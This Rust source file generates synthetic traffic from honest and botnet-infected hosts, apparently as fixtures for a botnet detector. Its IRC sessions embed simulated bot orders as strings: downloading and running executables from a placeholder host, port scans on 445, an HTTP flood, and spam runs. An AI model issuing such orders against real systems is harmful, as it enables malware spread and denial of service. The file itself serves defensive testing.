//! Honest and infected hosts, made in many variants.

use super::stories::{Act, Place, Story};

pub fn server(number: u32, port: u16) -> Place {
    ([198, 51, (number >> 8) as u8, number as u8], port)
}

/// A session of IRC: login, a channel with a key, pings, and what else is said.
pub fn irc(first: &str, nick: &str, lasts: f64, said: &[(f64, bool, String)]) -> Act {
    let mut lines = vec![
        (
            1.0,
            true,
            format!("{first}NICK {nick}\r\nUSER a 0 * :a\r\n"),
        ),
        (1.2, false, format!(":irc.example 001 {nick} :Welcome\r\n")),
        (1.4, true, "JOIN #x key\r\n".to_owned()),
        (1.6, false, format!(":{nick}!a@h.example JOIN :#x\r\n")),
    ];
    let mut at = 91.0;
    while at < lasts {
        lines.push((at, false, "PING :irc.example\r\n".to_owned()));
        lines.push((at + 0.1, true, "PONG :irc.example\r\n".to_owned()));
        at += 90.0;
    }
    lines.extend(said.iter().cloned());
    lines.sort_by(|a, b| a.0.total_cmp(&b.0));
    Act::Talk {
        server: server(7, 8080),
        lines,
    }
}

/// Said by somebody else in the channel.
pub fn heard(at: f64, words: &str) -> (f64, bool, String) {
    (at, false, format!(":m!u@h.example PRIVMSG #x :{words}\r\n"))
}

/// A file that is fetched without saying what is accepted.
pub fn fetch(at: f64, site: u32, target: &str) -> Act {
    let request =
        format!("GET {target} HTTP/1.1\r\nHost: site{site}.example\r\nUser-Agent: check\r\n\r\n");
    let answer = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_owned();
    Act::Talk {
        server: server(80 + site, 80),
        lines: vec![(at, true, request), (at + 0.05, false, answer)],
    }
}

/// A run of spam: exchangers are looked up, and their servers contacted.
pub fn spam(story: &mut Story, at: f64, first: u32) {
    for number in first..first + 12 {
        let at = at + f64::from(number - first) * 0.4;
        let name = format!("victim{number}.example");
        story.unknown(Act::Lookup { at, name, kind: 15 });
        let server = server(1024 + number, 25);
        story.unknown(Act::Mail {
            at: at + 0.1,
            server,
        });
    }
}

fn orders_and_answers(seed: u64, first: &'static str) -> Story {
    let mut story = Story::new("orders and answers", true, seed);
    let at = 60.0 + 400.0 * story.chance();
    let orders = [
        (
            ".advscan lsass 100 5 0 -r",
            "[SCAN]: Random Port Scan started on 10.x.x.x:445",
        ),
        (
            ".http.update http://203.0.113.1/b.exe c:\\b.exe",
            "[UPDATE]: Downloading update from: http://203.0.113.1/b.exe",
        ),
    ];
    let (order, answer) = orders[seed as usize % 2];
    let answer = (at + 0.5, true, format!("PRIVMSG #x :{answer}\r\n"));
    let nick = format!("[DEU|XP|{}]", 10_000 + seed * 7_919);
    story.unknown(irc(first, &nick, 900.0, &[heard(at, order), answer]));
    story
}

fn spam_on_order(seed: u64) -> Story {
    let mut story = Story::new("spam on order", true, seed);
    let at = 100.0 + 600.0 * story.chance();
    let nick = format!("USA|{}", 100_000 + seed * 5_431);
    let order = heard(at, ".spam.start http://203.0.113.1/list.txt");
    story.unknown(irc("", &nick, 1200.0, &[order]));
    spam(&mut story, at + 1.0 + story_delay(seed), 0);
    story
}

fn story_delay(seed: u64) -> f64 {
    (seed % 4) as f64
}

/// Orders come in encrypted at times of the master's, and each is followed by a run of spam.
fn encrypted_control(seed: u64) -> Story {
    let mut story = Story::new("encrypted control", true, seed);
    let mut lines = vec![
        (1.0, true, "\x01\x02hello\x03\x04".to_owned()),
        (1.1, false, "\x05\x06hello\x07\x08".to_owned()),
    ];
    let mut at = 200.0;
    for run in 0..5 {
        lines.push((at, false, format!("\x01\x02\x03order{run}\x04")));
        spam(&mut story, at + 1.0 + story_delay(seed), run * 20);
        at += 300.0 + 500.0 * story.chance();
    }
    story.unknown(Act::Talk {
        server: server(9, 48_101),
        lines,
    });
    story
}

/// A dropper asks its servers in turn, with another number each time.
fn dropper(seed: u64) -> Story {
    let mut story = Story::new("dropper", true, seed);
    for round in 0..10u32 {
        for site in 0..4 {
            let at = 15.0 * f64::from(round) + f64::from(site) + story.chance() / 4.0;
            let name = (story.chance() * 900_000.0) as u32 + 97_000;
            let value = (story.chance() * 900_000.0) as u32 + 97_000;
            let target = format!("/logo.gif?{name:x}={value}");
            story.unknown(fetch(at, site, &target));
        }
    }
    story
}

/// A person in a keyed channel, among words that bots obey, beside programs at work.
pub fn person(name: &'static str, seed: u64) -> Story {
    let mut story = Story::new(name, false, seed);
    let mut said = Vec::new();
    let mut at = 30.0;
    for number in 0..20 {
        at += 5.0 + 120.0 * story.chance();
        let words = match number % 5 {
            0 => "!help",
            1 => "did you see .download http://a.example/x in the log?",
            2 => "!seen bob",
            3 => "lunch?",
            _ => ".status",
        };
        said.push(heard(at, words));
        said.push((at + 3.0, true, "PRIVMSG #x :hm\r\n".to_owned()));
    }
    story.unknown(irc("", "alice", 3000.0, &said));
    story
}

pub fn monitor(story: &mut Story, sites: u32, period: f64, rounds: u32, clock: bool) {
    for round in 0..rounds {
        for site in 0..sites {
            let at = 5.0 + period * f64::from(round) + 0.3 * f64::from(site);
            let at = at + story.chance() / 10.0;
            let target = if clock {
                format!("/health?_={}", 1_795_000_000 + at as u64)
            } else {
                "/health".to_owned()
            };
            story.unknown(fetch(at, site, &target));
        }
    }
}

pub fn honest(seed: u64) -> Vec<Story> {
    let variant = seed as u32;
    let mut monitored = Story::new("a monitor", false, seed);
    monitor(&mut monitored, 2 + variant, 60.0, 40, false);
    let mut past_caches = Story::new("a monitor past caches", false, seed);
    monitor(&mut past_caches, 3, 30.0 + 10.0 * seed as f64, 40, true);
    let mut beside = person("a person who chats beside a monitor", seed);
    monitor(&mut beside, 3, 60.0, 40, seed.is_multiple_of(2));
    let mut dead = person("a person who chats beside dead targets", seed);
    for round in 0..30 {
        for target in 0..100 + 10 * variant {
            let at = 10.0 + 60.0 * f64::from(round) + f64::from(target) / 10.0;
            dead.unknown(Act::Dead {
                at,
                server: ([10, 0, (target >> 7) as u8, target as u8], 9100),
            });
        }
    }
    let mut mails = person("a person who chats and mails", seed);
    for number in 0..8 {
        let at = 100.0 + 2000.0 * mails.chance();
        let server = server(1024 + number % 2, 587);
        mails.registered(Act::Mail { at, server });
    }
    let mut mail_server = person("a mail server whose administrator chats", seed);
    for number in 0..120 {
        let at = 2900.0 * mail_server.chance();
        mail_server.registered(Act::Delivered { at });
        let name = format!("to{number}.example");
        mail_server.registered(Act::Lookup { at, name, kind: 15 });
        let server = server(1024 + number % (20 + 10 * variant), 25);
        mail_server.registered(Act::Mail {
            at: at + 0.3,
            server,
        });
    }
    vec![monitored, past_caches, beside, dead, mails, mail_server]
}

pub fn infected(seed: u64) -> Vec<Story> {
    vec![
        orders_and_answers(seed, ""),
        orders_and_answers(seed, "GET / HTTP/1.0\r\n\r\n"),
        spam_on_order(seed),
        encrypted_control(seed),
        dropper(seed),
    ]
}

/// Honest hosts that only a capture shows whole.
pub fn honest_in_captures(seed: u64) -> Vec<Story> {
    let mut all = vec![
        gateway(seed),
        subscriptions(seed),
        watched_job(seed),
        mirror(seed),
        file_sharer(seed),
        spam_filter(seed),
    ];
    for recipients in [4, 60, 300] {
        all.push(mail_server(seed, recipients, false));
        all.push(mail_server(seed, recipients, true));
    }
    for port in [22, 80, 445, 9100] {
        all.push(scanner(seed, port, 1));
        all.push(scanner(seed, port, 4));
    }
    all
}

/// Infected hosts that only a capture shows whole.
pub fn infected_in_captures(seed: u64) -> Vec<Story> {
    let mut all = Vec::new();
    for delay in [0.5, 5.0, 20.0, 50.0] {
        let mut one = |name, order: &str, act: &dyn Fn(&mut Story, f64)| {
            let mut story = Story::new(name, true, seed);
            let at = 100.0 + 600.0 * story.chance();
            story.unknown(irc("", "bob", 1200.0, &[heard(at, order)]));
            act(&mut story, at + delay);
            all.push(story);
        };
        let list = ".spam.start http://203.0.113.1/list.txt";
        one("spam under a plain name", list, &|story, at| {
            spam(story, at, 0)
        });
        one("a scan on order", "!scan 10.0.0.0/8 445", &|story, at| {
            dead(story, at, 60, |number| ([10, 0, 0, number as u8], 445));
        });
        one(
            "a flood on order",
            "!* HTTP 203.0.113.5 80 60",
            &|story, at| {
                dead(story, at, 60, |_| ([203, 0, 113, 5], 80));
            },
        );
        let file = ".download http://site1.example/x.exe c:\\x.exe";
        one("a download on order", file, &|story, at| {
            story.unknown(fetch(at, 1, "/x.exe"));
        });
    }
    all
}

/// Connections that nobody answers, five a second.
fn dead(story: &mut Story, from: f64, count: u32, to: impl Fn(u32) -> Place) {
    for number in 0..count {
        let at = from + f64::from(number) / 5.0;
        let server = to(number);
        story.unknown(Act::Dead { at, server });
    }
}

/// Mail to many domains, by a server whose administrator chats.
fn mail_server(seed: u64, recipients: u32, receives: bool) -> Story {
    let mut story = person("a mail server of some size, with a chat", seed);
    let begins = 2000.0 * story.chance();
    for number in 0..recipients {
        let at = if receives {
            2900.0 * story.chance()
        } else {
            begins + 2.0 * f64::from(number) * story.chance()
        };
        if receives && number.is_multiple_of(4) {
            let at = 2600.0 * f64::from(number + 1) / f64::from(recipients);
            story.registered(Act::Delivered { at });
        }
        let name = format!("to{number}.example");
        story.registered(Act::Lookup { at, name, kind: 15 });
        let server = server(1024 + number, 25);
        story.registered(Act::Mail {
            at: at + 0.3,
            server,
        });
    }
    story
}

/// An administrator who chats scans some networks.
fn scanner(seed: u64, port: u16, networks: u8) -> Story {
    let mut story = person("a scan by hand beside a chat", seed);
    let begins = 2000.0 * story.chance();
    for network in 0..networks {
        let from = begins + 100.0 * f64::from(network);
        dead(&mut story, from, 254, |number| {
            ([10, 0, network, number as u8], port)
        });
    }
    story
}

/// One address for a house full of people: chats, mail of many providers, checks.
fn gateway(seed: u64) -> Story {
    let mut story = person("a gateway of many users", seed);
    for number in 0..20 {
        let at = 2900.0 * story.chance();
        let port = if number % 2 == 0 { 587 } else { 465 };
        let server = server(1024 + number % 12, port);
        story.registered(Act::Mail { at, server });
    }
    monitor(&mut story, 4, 300.0, 8, false);
    story
}

fn subscriptions(seed: u64) -> Story {
    let mut story = person("a reader of many feeds beside a chat", seed);
    for round in 0..6 {
        for site in 0..15 {
            let at = 20.0 + 500.0 * f64::from(round) + f64::from(site);
            story.unknown(fetch(at, site, "/feed.xml"));
        }
    }
    story
}

fn watched_job(seed: u64) -> Story {
    let mut story = person("a job that mails what it fetched, beside a chat", seed);
    for round in 0..12 {
        let at = 20.0 + 240.0 * f64::from(round);
        story.unknown(fetch(at, 1, "/status"));
        let server = server(1024, 25);
        story.registered(Act::Mail {
            at: at + 2.0,
            server,
        });
    }
    story
}

fn mirror(seed: u64) -> Story {
    let mut story = person("a package mirror beside a chat", seed);
    for number in 0..60 {
        let at = 2900.0 * story.chance();
        let file = format!("/pool/{number}.deb");
        story.unknown(fetch(at, number % 3, &file));
    }
    story
}

fn file_sharer(seed: u64) -> Story {
    let mut story = person("encrypted file sharing beside a chat", seed);
    for number in 0..400u32 {
        let at = 2900.0 * story.chance();
        let [a, b] = [11.0 + 200.0 * story.chance(), 250.0 * story.chance()];
        let port = match number % 3 {
            0 => 6881,
            _ => 1024 + (60_000.0 * story.chance()) as u16,
        };
        let server = ([a as u8, b as u8, 3, number as u8], port);
        story.unknown(Act::Dead { at, server });
    }
    story
}

fn spam_filter(seed: u64) -> Story {
    let mut story = person("a spam filter beside a chat", seed);
    for number in 0..200 {
        let at = 2900.0 * story.chance();
        let name = format!("{number}.2.0.192.list.example");
        story.registered(Act::Lookup { at, name, kind: 1 });
        let name = format!("from{number}.example");
        story.registered(Act::Lookup { at, name, kind: 15 });
    }
    story
}
